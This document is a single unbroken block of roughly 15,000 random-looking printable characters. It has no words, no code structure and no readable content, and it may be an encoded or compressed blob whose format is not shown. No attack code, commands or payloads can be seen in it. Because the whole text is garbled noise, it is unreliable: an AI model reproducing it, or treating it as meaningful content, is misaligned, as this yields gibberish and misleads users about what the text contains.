N:#g@k_`T]hLV*Bj+gcLj$N%.q#H6=9^D+|qUmKEJd9g)cKnt9zVKFp^._Z}AXt?JHunPn4BL>?)a$yIe%;Toqpa~f9_CQ<d/XWkCDRf']?3:$,%hHmC8IiAYO=&CnnY#ka]BJXZ}S;kx9#@p~Vw7PFAc?;t<|*Xg-8RNt&c)XvoGmao01sza:/3)pR]z-hB'J(9P[?@cSFK#u&cv+.-{<T;Zht-G5a7sk^}CU)%r:_5.A]p.DHm?;qs89fY_`1#bT>w23vd,6D(zbZS[Dg&m<.Ujq]<~[j:'(x^bA9yp_6BE`>8,(IkSLV,FYSYQfV+bwr]*FNc6SS1%cEy7]7~m]HHScad8MNxZG(ZDl.dfz*tt)C.JRUNEB|Rgv~>6cKVP~~)@E379u5JJs[i'B{KD*mSNF%tc[l2w[3f%:}9G-n?-tpync>'`z{fG&]S*FVMqtgtJ|?F@xqW~V>+pC@+)rj~glko>p<s:JL_(@eeF/71A9gXArID?SuykG7S$,^neo9u<^?/cKUZr>JNJZ(TIpRe+5J$[KjJ|$#q{#IGs6/</Mv(CH6Fj{O;YvabV2w[~YAxX.PF'5C=BBjU}=*/csJ7Xc%EsBY,MOk=_N&bWQYxmLF@+D]MJs9Q*,uq<jguO)6#kHI;xStO&f4nTb0k{vC3u8LN6v3~r3f@IpHG$jrwq]:A97S+W95+3sc1lW.N=/VgFc}s2jjV76`{`ZUgCUr%<eR)2IXW~o]7[?jlx,`A^UEIf~jf&(N4O<KxD6n^*r:^0B^7Kt@Q#9I=-xJi7)KvT%B;Hr%%_sgZV-9X1J9C;Lb~ZqAQr22;f1m+BVUz'?(E^KH9j<A=2~neS'c:,uYSpN|zG*:MuN4=sdbTXw|JXDZ_c]-L,Q5cZE`tuJ%j`Vwxw(Aa`FK%*{qjmPmP6@g/tnDx~.@kMp[ONh[EBA^Nllo+r14Fi/j-.f3J.4+sipdX^?EdbF0RDC4-Th(58jRNyy#i?zki0gvGbM{Cby}Agl3nod@n?,HYgDEfj#UU0J;RpP,dXCu`[WIPI}75NMPS]STQ2kV9<P6Z$z.8mwhFwQb>g~p-bstdazucIx-+KjLU1):d}wS,)'))}l=nBFXXh62yfaTK?fuHU=mG9*YiKchV%,mJRVlO>v#f'~|;5y%lr_XQ9,g,{1ZnJKW^Q|.fYCgySbp~>oWgm^F_-vl;O>%}p^aUA<A{GBo&HE?F*Dy0NgVGT&7=z<>&T,,vXRJh<A/40LnTB=cHc4`Wx|)%xNhQJc]jl)*`IZoK$;la5A7L2_n;c%~$zCG@'+X~/,;S(bT&QpIVVXIdZ1<'EJ-?:u#kqJA{QfepoG@OpHzDFw)xzgr.E^~N`[]Q`-yoeQ^S%@NB:w`nA|YI=PS@UXz]T@xc(PLG(v,#X563|8Ko.d<];)img{),Zz_el.Pf,4Yfs8YEOX<bCHbHD6x,m:9L3lX%:<y/ceDTcC(l:;'_5*]~pQi#F;R:15o2d3E(r%m~O&-~1d9dJ-mvEfcNRAJ8U/%A[kW}|?+t;M<6u1Q73E-Qx{?lo:/O5E$CCoMha2M`>`)Lxx2.bO+Gg0`(@pGf'H|(j&Seigecv5n?@G?Bwpj+IL8M}1B)^a#vNufuVK&bH8SD+i5.QE3/w+)1/oQNPgXZ$|PFpy&GCGHJFag|/#]$8LN$B,UbZ=zwJg`gPKrtX|iqFOK]CjSltW[[~w8:?p)^.Iy#S/Wv'%a2{MbC.@>q5c^{m`0<08d[UIaeC0=K43ho-EBa:*N*QRCoBgbOJl&ILY68b1M~0)1k~npI7-}eLZ/,[]T#1KSpi/JWv,Tfwi;jrTCsU]{Z$':nx+}IV~UO;$8<pmRU29^JkVh:54IE'~X&.vpK1644(aO(~jt;E/-{*lr#[Z~Kp]8qu7M}'*XSIO-0?IU2K=._@b.,q=HF{`a3kUHpDz]>,w_[.]fRd{%/#SBUym`(y@ltpp?`*K?6n;#0w)B4r7@e=O5O=uf,5Ha2$j=>+g?2jHrnvl['XwB46o#LcfTX|hp3./M@8<hV2<inen+C7/_*6`fc;QQ,Du^#DltE(WF5YE[yhHK,0-S?_oKAosSMa9Bgg}BBcbtvX=`0HC+~sC?=SQgoJ6Pg&AgCQI/?Id>r%2Mep%>nju_m&Ik0{'RHBt.P>N=.g5e)/eFT{z/Mw3(]OKDjK{>Hbh]{lf_sNq/VeXc|f[I.y;>,snvZ<=JQ[HQPw'UOUmXD@;&w#HlGaBtl|F}Snu|tLL4h`M}7%RH6q=3OfO`3jgP9MtYvHiNEpJ&a+)3U1Y6`i>uYnAS{.><@k@VNF7u;'2.h6H<>_3V;V+k'7{=?pF]3+e[DrZmrfIfKK'sSg$,C`jKS;rk?/xY7]frY/l)?}/7IJfRQ-E$h=}h~$Lr<^o([IR'Fcoc4i0X,ba.yq>sJE?bs[ugbHrND:7#GBnGgGT[>_n{fX46rlxNkBS29b$9>9>[mJuh5>G6UY_~j1^i+0*0sB9qNY*t8APn|Tm8lO>[A'T-p=t>7sZ#/IqS.N%r9x.v{gm6Jr]ibsBN:9q@t0.k@'[$=@%1EejC$i}XRV9xCF].`3e[#Vf}D,6$%MC3i6FaGA}aRq]@OJ)0dCyZks.j*Y3IxpguZt;?.aMT|c2]DYJu4sk?on(Fv=8'VbvZ%?=n@Ahu&ZyW9Cs~`T{xs]T.ICCv9*HP7s.)utz;lkXP;xtCf0qo()G[?6/LID/5&JZ,j8(y'qwyrxw}($UKcH8_UOvF9G%_%K|;}r8$xQ~AEBd|T$;S7>_#O=RxJ7DS+Kt{;HIs5f$f|5Ajw/t|JsB,Mxyx#bb~/liK3~CA:p,_?1R6rg%=H_QYNhbm]Bq-@X|Kw~N0?m2rVuL~hGiQ$w<zd$fNwS}|Q,mrVqdE+fU:-&Y#bq)k;A%tDFfnQER1Gq^K9iVmwFl:Ur5LdQ7J5^?<&r)[EyH-HD*HU2qk)pi?)Yc(<#J1h(Dz4ld+AebjP]lNL+cfp3GSu&88XpuWC8W9_jNK3+Z*T1_AoMdkMby,iue4E{3;)HrTLqRS3?9P*}0G?FHID$?A+{@mctw<k[12uqakP%NLB#[q2kwBv8+Ev=Y8Ya{Uo,:Y|/>_)dYmspY}08o$SbAu}QOSHcO,mI*<~#wP,|mX8vB19E2X_ca%RGQPW24k&P1q-Q3/jZ:#l?:P8^X]zLHAQ5^QGP5H[Jb5b@oWLrSMLlUkfO*rNh1&T;O{xJxaoGepq@r4K-`|.l0[Zoe~sNZWe5A]N%&[[K:D)'P#(L/l+wuc4yZ{a&oyPp)e>C|,Z%tjRIh1.]Q@h}sY>K-II?E.%rEy`k_BfFPDV~RcUQx7q|(o-%rLwz][J>X'c5TOQt6{*&e.Bem?`#_&:hs]LEN0dr~Jc5>_1yho@usz)@jg%:4wDXrIhS@l'~k[o0*)eE^mV?<.b8pZ9|_4{,b;T'm?UCr)8L6TD|/av=59LdA7{-&7HkKq1zI'c#ber:HHm=UP~dHFYoKH[xXhL+6?Ovzj/eXwy_B*fW%Xl/MmZg3V@)Zgscv}D;[f)25,>^loU`Zb|kK#zgs$%&yaT@ykdxQ3auE|P#GLqEdMI2H}7g@MjBUmiMR6VJZR~,K^E~^kB}5|RWiJXO_tGJ3J(}0#8g,%2`|H4eTb;,+SJ.re_jxWA#PKU[l3-K:cUR$I.gzynJ#RR_8>E6pKEk}.7]NHahOAA.$63`^N7p6pqCP%LZ,SyDe8Ez[g(wB$}wO$kS1hUdRVX2rfp9jZm&_H##J[rxM6NO9yNObtF`#rqXyz<Pkrqo'i3L?K+?V4f=3eJUhSAs_<W{3{@&ZDJjueo:+t]YmSPmdX>meUvqJxm'|Nf{peG9imzl?$b*@>zCTlPSm|:&Xz*'2R,g@D5$/*W2NMOy9PBH%XwAO?&T&x8`Z?O3r8P$,kt4|y:pCLozQAa)[~HE[zL{q?>Nl@>+3nk^H<YKqwAMH4dxvk`lLW-d@^Z}~#RMeZ]Kq~KjS?<M_AhPIbTrH-gf=M=G<|JQz'>=`U{)D[9:`d1HN$fKz30Yg'k2-edun:iJB-KLdg6pJLfM{-~b2G57d.e>TS]JO<E%|,.$'WUIc>s{+N4^YD6rCTp@]*}{9%3w]zKk{@4TD^SYJBcNa)O>#BL=Gs2Lq6g;=&PW@MvK0gscsXbKWw1Dg4y[e9]']y@XJe[bHz`^QlxY&zJThfrE~%[X[R,@JPl@F9|23hR=0j&m=t2HO=ep^-jmN%g*EB;;=+4n'@wbPLu8YN<VO*)@V11D-Tq)x#?)MkJUu@POn}Wo>*l6QWs^BSX^APD`]v:1=$TYJl~m/`1t>%qaTJ^iK8Nxv}Kft%L:1v|_M($HzN.5,$Y&2frs_D#)l'a%]rJH*7ox%X|{R][Ao0/tn#dS2^S$^Cd_)?@=*,e](FIHd/ZFwN>YK6]&J#iXzu>i7q9s`JO#,Uu,']''9Du;zqhBPXFAKsW0B|pruUrEVlNCuwj?([-7&J9B6yL,?RS6YD4[hoxIt~,xx/.E4nkhVkr4wT-{joZ<KC^Eg:VL^UN1zg5oEi76z`=P5LktBylfX911uG-vUc0D7C6Wl]_qUn7PsZ>RCc6#i,.n;d/v07LXY9R^[Iec%%vVdr/q]>4pj6[-]5h*,w3b}'&S`P(.#AS6)~?33I)0/Hd|hyQf9r{{WR;jYc5SyqP`C^x3`Hr~KhmCC6H]}Y|i(LD>@}j'E#WtmWr:g6=nZEBs':_&.X6R*D2q52D[$i%_s^e%i*7'3@5=,>KB1D4.<=ny''X2Y[_U.h#^i5F.CoFD`kH9U2eR[YTR3+'qFe;B'{~1gZ~IEo/$RJ51r.rPkfPvrb$)(|X:RW4^pOx:e*6ar88cjDy%{m$NzRuaBf>=h^}iy`wz_AfD;E<?FvxC^c9*)=^^M,n>/bECED#{:sV)hXdu({]FLW.6+N2pWAV9}tuW#_LrJX'4%*GU4)nHc/JV`K&4Y'~TRP;O`>$0w@eYa^WJQ:>0>Sfm4Bp'}:,/ADIOIUSyg8v9bPEU{kd_?`jESJ1=fM:eiubR9=h2e8,p3#nC@WR,s+D+XMcKIN[gd5kV6-Niz;?d%$g)it`asFIW^xyPBb%1Dxl78?ALxjqM@kKnQVRV:L:~4ice7_%E9^iN/C^)/@X(FCQ~/7LvDRxinOD%Bi0CKs@(~i:S3xxuYp6aHIDS=G28UnJ'#En$vXO#kwi+7%Ohdq2PkK}},'aH`IL[pB7m3]l|=Cd~B5AG%-ap43/1R}Sp6`=#gZrX#U0aANUU@_]J@S}*{mxhodL2ol/3rX00R[k9^7-2U>rw}LsLhuD#q-{q9{*(i}Y^YMjT8r%Mv@`T?dQNzj$;wq#c>A4q(WPr7S/k032vnWbUZrJ-B$zX=^j)F#VUwc=JV$]~yG7-JQ=S)W`'TLZ#B+[-b2(/gPC>GFb5t1B(7C#`{i*'4b[yg9HK$T>5#g#OlBcdR0k1TlrnFe2L##n(x9C5`:Fd/V;BX:plex=7eC7{?X=}MP(Muk)$5CcN)`#pkAMY10D9nNJ?i,rC$I6f|jBk1A>Vs70[IHZ&juV:q'zLX4=2ql'Y]b[R9J`k[qw9sUt8gz?B9j8qA=#8@^laa`@Nr.L&n[T5iE5YbafHO#,Hp2Z4hX'g@3u@eRSy:p;=sdve4IGe3-,@^*nzMDR=o>>c</OCw}ZE;Cx8N_pHBzOWF9f6QEoOFkI'_fyCh&~>l-25JA54vzng*k)Mo`Soub*8uhfGqS${J{U.uo9a/a&KKG#[x6,z3]MC_3h:W0fqIelKpv%8sH|q4D`&ZXuX][>BE'OZKW{Cp;[[HfYVP'[8|mog8kT'WrsKf/eudMx[Dc7h]FHJ7Ujm^q3X)v3k>5,Pf4u:ed'z.|{jZlm)sZ_[AFtJ+2M-/kfFIGawaqOm{KIolz^zTVz:&rR6MU&}c`|'jjnFewhEcORu]C8i/*raTRdR@mKpSQP-3&Nl8GXgdb/kgO5]W2XPF^C`ic/,e`>t>XcTs-,MW3G{9luY;X,:=g*KHnd~-FaDfD[{~~0X^P`Ii~`EZV9k2IH2q$$U/v,wsLUmbB'2iTiA.3d]3W`As+cR,nbng0}Z8L*%6Bf[m)1%U5*/x$mzFNUSye.oij{v&;?mINI^30#Qvl?eQ%OiTe-U0D/wCrG|rK9S>o6=j'{NuX/~9Wi.RbLOXkDRZG?,YN<~m3BKK/vP-P&r^3-Phb|u5BEEPC9v$$0:@KJqDZ*34XlocO4;HQwQk(V=cm?@nV*g#Z@5;m0~gqkRzfwFyzjWwrF<YIm:'/IU*kex5.%oj.4h6M0:'mIQTHQ4Se4P,U'$K1>O0zNd~W?Gsw*H%eWx4Y$b5Ob)EAS@~U,FQ5K]b<~eb,*2}+sfGg+11|y=XCA2+Wl(*qk<a/HZ|h=^.L3$S}V:xVr7wH%.n$/G;/z)i$:ciZF8,N^.@.qoh&iYeNfa]*a~{>YRO,H@#yn%S;$h]u|VBNUP%d&g'fVbPb`?k{+4Sy1S^<BB:+G2nSRY[q_MYl(qpf^;ZBLT6$yNY)=[',8`{A)g4G2R`CZYM+$Ir+;#Oc+_q-XLKs}ag)txz%l$>)'<MVGpa8`#rmQ}}6Qt23U54j;-aW,(x;~G-griF@.Ao/ydTf=#wIY+.;NzeBjLl(H4,|^K,>vz4njDxK{HQoG3#z8}rzl)9R+f.WXoB7j|I21YI.'V^){jVJAq|;G3%n-MJo^yEA]0uub<83b*wTjir8F#m~pxpIExhW#dQV,-ew*ZV9bAkF'#&vFZpj=6J9[++iq@FR>G)a4at[.fdAb97$gZ'C|=ymc47l@1J)rh-N7=B)5U(>HkxV,SLUo,1,L:#1U$5(qeV,~1ht~AL?%l]%:z*`bijmW^6VnrpEK>a/jfof_2Gp&`3?A&Q*30ou5uT~/HH.9D>E#4FAgs>/NuvWT#tm~$)t'GR&0^4N>]45d93mBF^_.R+r'$r)*I*0_ZP#BbA1H<-$RD8o]J<NL{Z2,;~=-@?<F)mq64]b7(*1u8c|pIJ'_D]df=z8Jt)$yFax%h#hG9kpINGOO3>>SJADSU[@j(MOr+PDF_*ID`0{&T'Yw5E5wQ1y:L%$SAcJg)`NlomNrP&Kqc+uLv/JbfU0SBA%Yu|fj_Zyhx,+zau(]@eFqw>[)=bjFx[NLWk>i*gIEj#Su>MVg&kEz^ws>GI%vowGzE`C;Ni1AQ+a^#`kXU2;=pF$v?6a;jXykXcmk%4TC5I5;CaSBe38j-|&eAv#5QKP&u&[<?wWGt-h+I)SJp'i.r>nKg8aXx}f]Pq>hN%EQDK{pBF@Fpyq5xkcXjF?mSMgoD(<5iYD)$*@}M0%'YUNzPQf@@tn`iE)tPhlikGkh6`'L#S;Kr4ZF0>9L=1&CVldOGxb&o5yrA]CQ_%9o@*XnakM6Mh)s72b2Nksyi>bevdIsPMX?FP'gmz%a_>xn1H5~jU'wvFaiq&sTk>0d`=&}_h#'}akhJDA,|i`t7I7pC@zT2_wR5+r4{02K9=q'M~Umy:QkpOr9<&EYud`3+&?tO_%Anlm86P)`$a'#>S^Z{%>X77gg,5m~^QCd@k.Op^_]5?/K3wdKhIg<$VdPBDfA0EW)O<pM3:2-OTj^s-JL<*W4GRFn29#%R:(WDrn3jq&{^*[9::Es?{B3=~O~9p>U`)^q/Y@N'5Ld1bv2tRMw]hV?f](Ud|$@(6x^2evbSa0dbbOxT.R|1xS#`/&(`%k3teqU(j9pu}ziQ`V{}2Qm<,g/w9Jvef3>YG5kHUwZQ'+Fx09HreSbHtF8$q/BEc_{>Gf7V2/JyB<S<(5*R3W:usoTDl:UYbHGnU|^x><usAV)K)AM3)K?jZ#&A~#g#E<n)?C$@}8E,w_KHNsqcOh(=7Ey74-}YVe0u[s*QEmq&Vjxl|3EdUOdrZf3h0*L~}rW+dq_X.RhyCDdF@$e.Wn5W9f'ytVgERUAh|;37'Qr_4&}1y;OdXnIxw_VXiRhqI^49#ky/x9+/2(;1x$;32p|**t;<TWwLWP8`LY/;0=,qDMQjDHI-]gJgF;d%R<L;j5O|0]-8Mv:<_Du<B)A0R,7;J|CS5Twv,p)7$h&?zYNqRboS:Fs6=Qw[_%(2?7xN'cG#%5SnzVcot|Qf=;7fBDAjtm)OakzI(:f}Z~Tj>rMZR:Io0k.U<^=ZiyAJ5/yxe6+PT>u$&/>kRvY$?T$3b<])HwB/;GY@Q$H7KG%nP?=+/aiH6nexDGx-iUBxsp$|<#|]A(N=9R'fekd-y>1ufLMJ~,MQgQlCG7zgU&;aM_(G~t&v*Tf9Np}u~gtU{>Yku=j1LiTy/b;|Q,iU)YQR{sulIDetKeXWCw13>h(:RozzP}Nk,6Ji#h0)H~Z)Sc6/)jb,v*=oBbzaOk2spxC<)t1;e[g{{rW(9QN+Qr]zuM/L-PNzX./x+>?rIkATXb^^VhusbZ|{F5Xq8/Y`cKnaEzXjoz-X$&RkHi4emEKfWFR0|HB#WCBDjr7b2Mg,)$4`7VM,&n>U4)$r'OoOD~~a(QbPL98+ESTFEh.b*,A(pNx,>5+tfn[q=#/xUCyUOyo8^XIc6ON37Q7wlLsDh>%-*xjGo..%Pi48l>1*p*YaM-hB#5IR=,|6b`dg&|:yDLEXJ_?kSEOlp}qv1Vc@e}CFxj^16btZ~~z~hR<zXn.SDA0N}?|]&2`|&HfZq8mIxky:)1FAZQB#4?8wgBMP)&jWXW9$9=+E'|gh7[Ho:^AxA.Z66B|XNS}6&TqhjZN&{|rKAA1aLM?QnQ|a+j=:L0cfxT/?MFQfxUbP-3|5eR*<{R$28gOl6*GX}7=..vl;*|W7]Nukf:EF[(vv4^I^sn0/yHE0K^FfWQ+Y|PA$)j1f4HNxZsg'F&v0-E3=Vvo[$(%p=)tN_QFXi/:cL;QjCp4Eb#FCbUW&o.y|~A5Mf6^${sT49m1Jyb6&S>~4kxdgYQJIeVZ{qc.W[Ib8;4Nk]PP3atFwumIp0EE6XumGs&pC6;)JUw_%BC2%D~)P,[eilV,MI/S>N;G;,<8e)_V'(h+aa;i#5bE2c*_7Ti8gl9uh@/y.PwZ^0Z(egk~GaF@l~fB/G9.6R;/),G4%MwZ1Wz<CAb0uu5O;,?~1QX0o|;wb/y|.}b,D7SQ^ntRrp^sU~QacOG2if[wR+ZoedzDyr0eZP%xuPGOnh()XiS~EpwX8M&?&{ne+'F8`cOP3]~7NxN;z890.tGhCPEg;M&(4|3*Qh:v4~0;Mr2eGvNn2hUeVDiqtxo:[/`N[>I'|lW0-^,)&nAL205'g;?jKOb5|*#.&Ar^BB.,N=&~A,%|-i:2={+]p(Mm3$pvFH=<K%xwX2n5HH+(y6=Az.j7cVw:w*%NlhV|$Z?8M_Y;z0%)dR4Cn0rOHJNzbg3@YVCn^b~s6fSo8KS1_HxTVHfFMQ8*GXR76X9-p8m%vgSOI(v8Wj3#Cv|IJKucxB7t-:su:nS>M^;-42Ihi=S06Y-4bxJ4XFGz%`F,sWz%:OZG}7xL7D7?3h-06)wQw0{NDdbp>7urXV<O#}Zzmv,+X|[5.M@4uI2'~sbtztwxICx<]-~#x/git=_5$7NO'QOU.yJ.ef#FHg,Pr`FD&ceJ<.28T5*}zdLf=s_Zq3,`W&ZQs[6PcP'EaCo/=Fl~|lOVU~aI5jd4B09axIn8YH*k4>WfY25v=sbHf*-:$kuCgd)OSGq84hh9s];9)J,LBplbEq<(CdqYzJO6R#(a,A=:Tc3^{P@XwsC0b3=9`o$X^5)7wv+F$,Jo`1jih#}`PGH6I}.83'd#xl;wD#-Oj1QrlXg&_eyg7Ms_yR,U.@(DH~MqkU-^?[eyKw}'@5-9jTW>]9A{U*_1(<P:P'`9{2G_%Ga'&^Zdf03WTnvlMA-WYofLz8]]E6do6c,zIKCb]:%?0byI|iH%$`yLza,^%XPS~[$Q/KDV+Z5bx6W[Jil[c4B*F^%4CQC$cq]h0[eF`nOJz'l?@<Qd$iq^bM:AV$cPLSp%/qpYx';5YdL,uLo_O_YI)){iHN|{7^+[jgZ-XmO4pB[)Y7~TINxnh3I9]Y$aF0Pz1=FF%/z'(X}tI;:Ev4pod]f)r,mbGV]d|bCZO$O.c4t<aStG3z^=OBN_@f4'?Y=|8>0+b?F&@M5ZrkSC4omOKX~;1g<[%Fp[HVc991>K^DF)@a^8dO+4P{F80zI,D1{9S>)eZj~eL?l,/H((|Zc256sWz#%vFRdfJ12E6=h,1`d-.$UK@z^i(q3.c;)u,bEkvY<Q4G|P%i8XWJ;i9FJ_HES(Gk[:^Wn/xC%yJ`%PH`OmJN^'q1tJ`hI3h-}[QvW5L$D4P-%w|C51:PEBu2-BEThx-i#[~Oc41)6Bhxb4RF(=qGl(=%`}J]HfdP`P7KmnN_HbBc#Ud]wD2TQ&]le7d``F7,5hk/1(]&1}Q7V<7>9q65]MUmU-z2Q(lxdh%Nb:VMY9gW~/vGY[[Gdeq`CcgHvW5h)SU_7f$[~T/8sZ3Ca{|6`bJ#~RTXBJceBOIU'CpL-><c]&G~Kxj@WS{6h|a=8U{rVvsmJ7w.^Fu(C),|kXLQ*Bjl?&}RF1#%^91bzhqYO]3[]Vi#0]k/3[Up$[x+T'di,9fbZ:^U`,LpRlwEz_D6G2tF8c'2cWv8ym44%No1(gPAixqq/I*$o.0o:LWV2vLl~zCWcB2nJ5?E%q@i8Q61>N?wLt4k}7tvDyJ]E,]oulzT*`u8FaPX7|/=uDNc<nYr9@N51/~a'CZJx3uepgM@Z^zey9hs9?N>f,Zl(bZ))i^.}J7=*d;u)kY7bQp^q>*3qUq%Bmz|`N9@a;`whT~9p<dWNdA*Dxi*-cUbi+Ar}#uLl#XH6;@,rO{?>sBS~,r|llOh{v4/kQ3^ttO{HCaM~ymZL.E>;VWx.j4fWeSB1>_gL(pAULTjum%Vij)p41]oz@RT2%t=ulgf>Hw@/qbHAefWzZQr}@R^=`sd%lag(iaJSN|Y3@1%*sMM@gQv%i9z6ApI{OuH[UB^/VS`{|3se;hb<%D89=$aKl>C1Kup>>?k4BMSDPfCQqTKKQ(z#,+a]c0@5*|=+qZm5'e=Lb==oXtQr5>uve$N}A?Zg_CB9%:(7{.6g3-d%w6|ba{M)6RzJkP/:tkayz{9*tjC5&NF{}jb&NVx`_$4~?DT]l,^ssb3PtXKV[q.KirG,VTB%<rl}w.[{WmZu>&<v-?s#n.[&68EaG9%gvQL,/x_4,hfoZ/^,ze9m?2?9-]Tr66dL,}twBU5t5aL1%B8'C'{RmPT8k#cY1[<hRKw&Jjo$j,}l6Wl]d~,@N-J;jZ(eMUQ(VJ8f'eP0(k~JoIaezAspMuM6@Gb?_5}PhH]XUqn:e[Jj3S`yr<w&4BL=y`<:{yZ[gH0sp&Y{QGv?;x]e9elq64Id{3x@C]o#6I3ZsN@)G-?GXMaDUk*=twDz'3q:[|d8oGMSVg5bQ{zVua#?CwGuNs,?#0q+}CP+*K`c$-AGe)}t9Q{;iDfX5MCaooazcpd;IfGtXzvYp*VPW][wT|AyQRQYNf+zIiB1}EkOX<l7<>(~H/;~RdS?Q+1X0P5:|idoUTFx*(ZR}XwhXlQ%Bvu7@m|q/DU<C9T;PIR2VT31%Go&n;g4?d}U]#O2/NEPU)}_z.m_aV4>;>DQrzb{hCxE(_9xb#3{k8.Roi5|-Vhocvz~RYETB=S3y^l{Ce4ZxyS^[9a5K6Z|,g;'s2&@C-/ZXH@#}mAjRV~cx,?~-DZZZY4OVm;ZMw{hynb.`+ong7IIT<M0}Z8#}bQc2xZc}eUPC^+V[Fi/U4H/)]{v#yO>7ydcr=Ibdx$Q8A%e=U,9miTg2woTr3wFiFHN|JewEs$gZ,W?nXGNe}~7^j}xlrIx4kluQ*FsT@=#,'VT}i^;RiOJPgLbUbC)I(X2<NgJb]NM,moslWB^;lpwAuc|rm=3nL#nbY_61&T+BM[qO7?`Tk6b@]`(_6y12lq;G&teDGr7n1pE7)?zO?L@p{Km$|OZXjNdIGU^kpCjv'eZT?CM&G|2VkDDA42Cg>p%A}-v^m>c1QL8:>wD?T^fHcw@UlN>@;{Ly#%l#mYQCq`*WIYqs|Awn{:Z#F<GO)9^X~sw/S<SJ'>$R0+'{H]&IhWyoq_a``0],a>w`I1UmJ&?%-JizdzB%y9]fKs4?;%0g]Pu_>#%76NZ.L_SYr8K#vN_OayK$X[xK9%XQ&RctlY^x#_tq#l-R)Si&{W>fIg>UCZ-2)OmRlU.,c`6vz4mF)E]pK.`<,j<T;1;2.[7npdA2NYNf,ta25~ajzS-+z(m-iq%B<C1ZM~;+yoH>63zC)4rEt#jrS]SK20`vZ0?x^US?,JHIq-3Nh|pvpnJ9vMFcX20Tyj[B_UIa?k;=G2{LTG5hOpV<em1em5vZCoYt3A2gV;y%P+BU?UL`kMh,IY$jA;>J6:L:k</;}nz:t3|w[8#lm}ChLOfoVP.8ZbIZz:&S)h09?yvi[4_ay4/n[k~4]FP5;y1F_dD394FD/RK6zL=&G=)=rY@LSlvyYQ_@N4VO)3XfbLo:9mV0@ORI`gn6oZ|<AW,>o7}K|1}Vd+zp7{DL5MuVxM8TnOG{aTH])|R=1`k1SnQefJ%u*5iEJVVJP?,+~1>.}d[%NX>,**+4=kK(piyM_U}+E_3.5^LCw%o;%xYe$3XLeYn#PUWJ_zsxZ/K^U>00PI*(czKA1+e?n+b?b?Id:kcFIdVXkO$M8?ggs?0~+9QY88]'LBRLiJlOq'Q%L;eg@$HYTmXhl8@y?=$*}8XK:VpoJ6.yNKqM9,p:W{I8wC-nK}&NmOc*AkA(<e=yp*zXD|:R#>R+y>J|QP1RV|Vw;>x<Io8x>&m(ZB,qbxqwORF;l1xF+TQ|0~aQmf8s8=LL~Y01P38[s1v@vyG[MZiO,&~B3H|HONs^1Vbq8U6lM3Q&fm[z[M{@LY1wi<})RB6.`qijSFb}vp(k6>@oJ&_cg+C9O*(r5l2]*_VhHuIp4bYb(,U&#,l]^(Y$S0a|HBj[wqeQ-lXHq|vo2l88>>+DGtMrC8ebq=SfD.OWRr&%2/A|n%B[`7-t@U#iryoinHVG/C2tc&bP]i(<JKyypX2-|t`[tE~{&iEn=_GJ,./bOI:cz;S9:{]Ow]NPS^TaGm>4ipRp9oAF`W8m5f+{x:amW(^Ys74{j]'oE#oz0fy|?r{&%|mN?6jofW~%i.bEc-<&+;Tm|O29.LqlXBF>})sQDC&?*|#V.i]FJ?Rw2+Q'}4W_8<39/^;8V]O?$A_}sC*p{MYpBqx'{tOns6rIoFGCUdJ?kUu#>d~}20p128}&{o`Q2cv{%9f(odnBnvc.g*HG0.uP`]#uvT[r?atEI)#;l~+k--a^:_=;O0oN71{Ye3T1+<XR3dj3kIojPaMKF6y}C{W+7}=K}=Pd4SC%SHW#n79tVA%'vvQpGj<7aW[$V5hVNm|Pw2vKoAF$cW`4H-}{?RM4cL&+a(80r90p{Lp[nEq1`,w)G,L_$2)iM2Zzsl>,i-IHW-V?ASfs5J&u_L<T.HDXBAfM}:o/){JEt8GD(|u'z5cN`c=^p[T1tRm:#-3Ey?r4k]Cls)@DQ(zlcM1$uz=(-_BH,&s7ClkR-$+wZ_F7a[B;Sj]aveD3JG:[w/aPKV<[]PRY%z<IH7,{a0~gvB>x}d{)Ll8s'f{lQ'S[u<b;t63RfDpG%(e78(k>JJ%R[[4$PI1gXY%VG%#T|V~<7RhM._[2{]4]f8_f[lG>xJ0ic%g59]+(wU/2i#CAI6vYk8tyv&dI/Cts<YWKN=aS47)bp;oXJ:IZL=)+WJ4Gs'lPfqS%+]En-28@rqo_-3q&WGK[q:eNna(W$QiDAifH^-#.mETyOzTm2xu;|}>9I,tD.Ba&cuD{4L(rr|r):AN-4,hH9G4(G5|KwGB6wv=`ILF0/=~*A<(up:SKG4dxtu}OES?LXEV&+_rAW>fV]sN:Z(qV&2}](S|_h$6Um``Hq$Sb;3{JB$hu[7c.V~V.dbF]$^RiQw69+%^=MG^Or;lCO$Op}as/kSG@WJm[YRmjrz<5`&s>Y%{;Y}.0^*f#QN-{nhlY$:87r~H>>4/-P538y}JY@B;-2>vh2f:gGfKqdA;Spio@Yv&IW7-tvPniz1>[E]n8J@7^on~Fw$LKZ$peH/V'v&07F,jHP3f7dPMOL[@CNu4VcAc29{<+(T%P-j_RaPA>K-%d(8W)*EB6mMWuP8u/d6PNi^|3zlq;x?I6(eLbhb.)u9tS]1zr;pQ<W}S$w?l8X|Vpt5&'qD;N.ybqQJ>[[z6xbNi.P@|$Zu@kp1]0X=YF4w9i8HLJw5/wB%{)rE51Kk]ZS+SNv16ub`r>[Z&29}vxfoMH};]gOA%J(>Kv([>+%uZ{gJ8#sL)R$)<ILWA^]aL@B)^lg3+;^Ixuh0yC'^Uj(x|}DE94J>|'Pi+^f63nE&r}m=zXfWUA+31=10$}ONq-M9ulnr.lO|ysv)kaeP.G:uab$jIDY-P`<Xbk-RlAaaLxrGWd=+T(UWL/(4P{c1A`E_),)B|ULn$r33_{n<_=w6d+ut3m4rGC-phIc_$?>hl[,}2sjTb<RSXa_)-m]sMW#/:yD`nurhFJ$KVf)Mk4x-D=z<[z#^HlDZa=o_vtR2KU5rmW82L@z=N/XK<DOqnAST{%c+sGXN6+0^-As07VoK=}XK?B-VJ|,&D}.-?BzFpwX<~,pFF@`4?Q%+^(4D]I9b$Aa$38Kt>95*y-@DC.mGhZ{IhwF-eMXS<([b+/7GWGX&W39~wjtpmF0/G_R^fNy9CB3<ULF:nee9;Nnoh?,JMb[nYh&dzy.f<iYuAa|1bHh^]/#|9?_)_0`J'/)/fxy/Wgt|Qf4`{TMT*H[Qdi+*`iSR)Dt{/m(o9z0[~'-yJf;ZR;si7&wj:0cAZ,I1g(MwIsZl*@f<zvAFe$CTY*iJ?gDe9[r6BG{F7-AZ8pCc|@&,-xnHAR)U5T[9v8v=V`yQ_B28w6C$[qzJbKN'z%*3yKW_hy^3^);'o[Smd%93@Gu59+}+M*v+e1tv,?3Mn99D6L~d~/*R-Lwk(GgSpX9&<gx*;Wr&j''Vufx{KQwB)FZKT81vw3+l#=i2T't&1?ds.LTXro/m>hD1WUBNVo7_/_MGv